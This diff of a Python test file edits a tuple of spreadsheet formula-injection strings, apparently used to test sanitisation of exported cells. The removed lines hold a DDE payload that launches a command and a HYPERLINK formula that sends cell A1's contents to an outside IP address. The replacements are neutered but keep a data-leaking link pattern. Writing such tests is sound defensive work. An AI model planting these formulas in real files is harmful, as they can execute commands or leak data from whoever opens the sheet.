@@ -16,7 +16,7 @@ from tests.assessment.workbooks.samples import opened
 
 ATTACKS = (
     "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", " =1", "'=1", '"=1', "  '\"=1",
-    "\u3000=1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://203.0.113.9/\"&A1)", "-2+3+cmd|' /C calc'!A0",
+    "\u3000=1", "=none|'none'!A0", "=HYPERLINK(\"http://example.invalid/\"&A1)", "-2+3+none|'none'!A0",
 )  # fmt: skip
 TEXTS = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=40)
 STARTS = st.sampled_from(("", "=", "+", "-", "@", "'", "''", '"', " =", "\t", "＝", "　＠"))
